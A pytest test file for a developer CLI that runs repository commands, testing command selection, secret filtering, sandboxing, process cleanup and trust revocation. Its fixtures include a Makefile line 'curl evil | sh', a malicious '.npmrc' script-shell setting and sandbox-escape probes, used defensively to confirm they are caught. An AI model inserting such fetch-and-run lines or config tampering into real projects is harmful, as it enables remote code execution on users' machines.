"""Running a repository's commands: choosing one, levels, logs, honest endings."""

import os
import signal
import subprocess
import sys
import textwrap

import pytest

from phoenix_cli.app import build
from phoenix_cli.ecosystem import runs, trust
from phoenix_cli.ecosystem.repositories import find
from phoenix_cli.kernel import processes, sandbox
from phoenix_cli.kernel.errors import NotFound, Usage

needs_sandbox = pytest.mark.skipif(bool(sandbox.broken()), reason=f"the sandbox does not work here: {sandbox.broken()}")


@pytest.fixture
def app(tmp_path):
    app = build(tmp_path / "home", {**os.environ, "MY_TOKEN": "hunter2", "PLAIN": "kept"})
    yield app
    app.state.close()


@pytest.fixture
def repository(app, tmp_path):
    folder = tmp_path / "home" / "repos" / "x"
    (folder / ".git").mkdir(parents=True)
    (folder / "Makefile").write_text("test:\n\ttrue\n")
    with app.state.write() as connection:
        connection.execute(
            "INSERT INTO repos VALUES ('repo_00000000', 'x', 'host/me/x', 'https://host/me/x', 'me', ?, 'main', 'c1', 't1', 'now', 'now')",
            (str(folder),),
        )
    return find(app.state, "x")


def launch(repository, *argv, level="trusted", **options):
    return runs.Launch(repository, "make:test", "test", argv, "", level, **options)


def carry_out(app, launch, **options):
    heard = []
    run = runs.carry_out(
        launch, state=app.state, events=app.events, home=app.home, clock=app.clock, environ=app.environ,
        user_home=app.user_home, listen=lambda channel, chunk: heard.append((channel, chunk)), **options,
    )  # fmt: skip
    said = {channel: b"".join(chunk for name, chunk in heard if name == channel).decode() for channel in ("out", "err")}
    return run, said


def command(name, role="test", argv=("make", "test"), **more):
    return {"name": name, "role": role, "argv": list(argv), "dir": ".", "locked": None, "offline": None, **more}


DETECTION = {
    "components": [
        {
            "commands": [
                command("make:test"),
                command("npm:test", argv=["npm", "test"]),
                command("make:html", "docs", ["make", "html"]),
            ]
        }
    ],
    "primary": {"test": "npm:test", "build": None},
}


def test_a_command_is_found_by_role_by_name_and_by_its_last_part():
    assert runs.choose_command(DETECTION, "test")["name"] == "npm:test"
    assert runs.choose_command(DETECTION, "make:test")["name"] == "make:test"
    assert runs.choose_command(DETECTION, "html")["name"] == "make:html"


def test_a_command_that_is_not_there_names_the_near_one():
    with pytest.raises(NotFound) as caught:
        runs.choose_command(DETECTION, "htlm")
    assert "did you mean html?" in caught.value.hints
    with pytest.raises(Usage, match="fits several"):
        runs.choose_command({**DETECTION, "primary": {}}, "test")


def test_arguments_go_where_the_runner_takes_them():
    assert runs.argument_list(command("a", argv=["npm", "run", "x"]), "plain", ["-v"]) == (
        "npm",
        "run",
        "x",
        "--",
        "-v",
    )
    assert runs.argument_list(command("a", argv=["make", "x"]), "plain", ["-v"]) == ("make", "x", "-v")
    shell = runs.argument_list(command("a", argv=["sh", "-c", "printf %s"]), "plain", ["a b", "$HOME"])
    assert subprocess.run(shell, capture_output=True, text=True).stdout == "a b$HOME"
    with pytest.raises(Usage, match="no locked form"):
        runs.argument_list(command("a"), "locked", [])


def test_a_run_that_passes_is_logged_and_recorded(app, repository):
    run, said = carry_out(app, launch(repository, "sh", "-c", "echo out; echo err >&2"))
    assert (run.status, run.exit_code, said) == ("passed", 0, {"out": "out\n", "err": "err\n"})
    assert sorted(run.log.read_text().split()) == ["err", "out"]
    assert runs.runs_of(app.state, app.events, app.clock) == [run]
    assert runs.proven(app.state, repository.id) == {"make:test": run}
    (event,) = app.events.list(operation="ecosystem.run")
    assert event.outcome == "ok" and event.arguments["run"] == run.id


@pytest.mark.parametrize(
    ("script", "code", "reason"),
    [("exit 3", 3, "exited 3"), ("kill -9 $$", -9, "killed by SIGKILL"), ("exec /no/such/program", 127, "exited 127")],
)
def test_a_run_that_fails_says_how(app, repository, script, code, reason):
    run, _ = carry_out(app, launch(repository, "sh", "-c", script))
    assert (run.status, run.exit_code) == ("failed", code) and run.reason.startswith(reason)


def test_a_run_that_takes_too_long_is_ended_with_all_it_started(app, repository):
    run, _ = carry_out(app, launch(repository, "sh", "-c", "setsid sleep 300 & sleep 300"), timeout_s=0.3)
    assert run.status == "failed" and "time limit" in run.reason and run.exit_code is None
    assert processes.tagged(run.id) == set()


def test_secrets_stay_outside_unless_one_is_passed_on(app, repository):
    _, said = carry_out(app, launch(repository, "env"))
    assert "hunter2" not in said["out"] and "PLAIN=kept" in said["out"]
    _, said = carry_out(app, launch(repository, "env", variables=(("MY_TOKEN", "given"),)))
    assert "MY_TOKEN=given" in said["out"]


@needs_sandbox
def test_a_sandboxed_run_sees_no_secret_no_home_no_network_and_no_state(app, repository):
    script = f"""
        env; ls -A ~ ; ls {app.home.root} ; touch written ; touch .git/hooks 2>/dev/null && echo PLANTED
        python3 -c "import socket; socket.create_connection(('127.0.0.1', 1), 2)" 2>&1 | tail -1 ; ls /proc | grep -c '^[0-9]'
    """
    run, said = carry_out(app, launch(repository, "sh", "-c", textwrap.dedent(script), level="sandboxed"))
    assert "hunter2" not in said["out"] and "PLAIN" not in said["out"] and "PLANTED" not in said["out"]
    assert "phoenix.db" not in said["out"] and run.status == "passed"
    assert (repository.path / "written").exists()
    assert int(said["out"].split()[-1]) < 12


@needs_sandbox
def test_what_a_sandboxed_run_leaves_behind_ends_with_it(app, repository):
    run, _ = carry_out(
        app, launch(repository, "sh", "-c", "setsid sh -c 'setsid sleep 300 &' & true", level="sandboxed")
    )
    assert run.status == "passed" and processes.tagged(run.id) == set()


KILLED = """
import sys, pathlib
from phoenix_cli.app import build
from phoenix_cli.ecosystem import runs
from phoenix_cli.ecosystem.repositories import find
app = build(pathlib.Path(sys.argv[1]))
launch = runs.Launch(find(app.state, "x"), "make:test", "test", ("sh", "-c", "setsid sleep 300 & echo up; sleep 300"), "", sys.argv[2])
def listen(channel, chunk):
    print(chunk.decode(), end="", flush=True)
runs.carry_out(launch, state=app.state, events=app.events, home=app.home, clock=app.clock, environ=app.environ,
               user_home=app.user_home, listen=listen)
"""


@pytest.mark.parametrize("level", ["trusted", pytest.param("sandboxed", marks=needs_sandbox)])
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
def test_a_phoenix_that_is_stopped_leaves_no_process_and_the_truth(app, repository, level, number):
    caller = subprocess.Popen(
        [sys.executable, "-c", KILLED, app.home.root, level],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    )
    assert caller.stdout.readline() == "up\n"
    (row,) = app.state.read("SELECT id FROM runs")
    assert processes.tagged(row["id"])
    caller.send_signal(number)
    caller.communicate(timeout=20)
    (run,) = runs.runs_of(app.state, app.events, app.clock)
    assert run.status == "interrupted" and run.ended_at
    processes.end(
        lambda: processes.tagged(row["id"]), app.clock, grace_s=5, first=0
    )  # only waits: signal 0 ends nothing
    assert processes.tagged(row["id"]) == set()


def test_trust_ends_when_a_file_changes_that_defines_commands(app, repository):
    detection = {
        "components": [{"evidence": [{"file": "Makefile"}], "commands": []}],
        "services": [],
    }
    given = trust.give(
        state=app.state, events=app.events, clock=app.clock, repository=repository, detection=detection, level="trusted"
    )
    assert given.level == "trusted"
    (repository.path / "other").write_text("x")
    assert trust.trust_of(app.state, repository).level == "trusted"
    (repository.path / "Makefile").write_text("test:\n\tcurl evil | sh\n")
    now = trust.trust_of(app.state, repository)
    assert (now.level, now.given, now.changed) == ("inspect", "trusted", ("Makefile",))
    assert "Makefile" in trust.refuse(repository, now, "test x").cause
    assert trust.drop_if_changed(state=app.state, events=app.events, repository=repository).given == "trusted"
    (repository.path / "Makefile").write_text("test:\n\ttrue\n")
    assert trust.trust_of(app.state, repository).level == "inspect"  # once dropped it does not come back by itself


def test_a_setting_file_that_appears_ends_trust(app, repository):
    detection = {"components": [], "services": []}
    trust.give(
        state=app.state,
        events=app.events,
        clock=app.clock,
        repository=repository,
        detection=detection,
        level="sandboxed",
    )
    (repository.path / ".npmrc").write_text("script-shell=/evil")
    assert trust.trust_of(app.state, repository).changed == (".npmrc",)
